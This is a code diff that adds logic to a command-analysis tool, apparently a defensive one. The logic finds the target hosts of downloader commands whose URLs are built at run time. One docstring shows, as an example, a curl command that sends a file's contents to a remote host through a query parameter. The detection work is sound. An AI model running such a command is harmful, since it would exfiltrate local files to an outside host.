@@ -249,6 +249,49 @@ def transfer_files(program: str, args: Argv) -> list[tuple[str, str]]:
     return out
 
 
+_KNOWN_AUTHORITY = re.compile(r"^(?:([a-z][a-z0-9+.-]*)://)?((?:[^@/?#\s\\]*@)?(?:\[[^\]]*\]|[^/?#:@\s\\]+)"
+                              r"(?::\d+)?)(?=[/?#])", re.IGNORECASE)
+
+
+def _operand_indices(args: Argv, values: frozenset[str]) -> list[int]:
+    """Where ``split_operands`` finds the operands."""
+    out: list[int] = []
+    i, ended = 0, False
+    while i < len(args):
+        a = args[i]
+        if not ended and a == "--":
+            ended = True
+        elif not ended and a is not None and a.startswith("-") and a != "-":
+            i += a in values or (not a.startswith("--") and a[:2] in values and len(a) == 2)
+        else:
+            out.append(i)
+        i += 1
+    return out
+
+
+def built_targets(program: str, args: Argv, prefixes: dict[int, str]) -> list[str]:
+    """For the operands built at run time (``curl "https://x.io/?d=$(cat f)"``; ``prefixes`` holds each
+    one's literal start by index): the host when the start spells it out, else ``opaque``."""
+    prog = _NET_ALIASES.get(program, program)
+    if prog in DOWNLOADERS:
+        spots = _operand_indices(args, _NET_VALUE_OPTS.get(prog, frozenset()))
+    elif prog in _HOST_FIRST:
+        spots = _operand_indices(args, _NET_VALUE_OPTS[prog])[:1]
+    else:
+        return []
+    out: list[str] = []
+    for i in spots:
+        if args[i] is not None:
+            continue
+        start = prefixes.get(i, "")
+        known = _KNOWN_AUTHORITY.match(start) if prog in DOWNLOADERS else None
+        if known and (known.group(1) or "://" not in start):
+            out.append(f"{known.group(1) or 'http'}://{known.group(2)}/")
+        else:
+            out.append(opaque(f"{program} with a host built at run time"))
+    return out
+
+
 def _short_cluster(arg: str) -> str:
     return arg[1:] if arg.startswith("-") and not arg.startswith("--") else ""
 
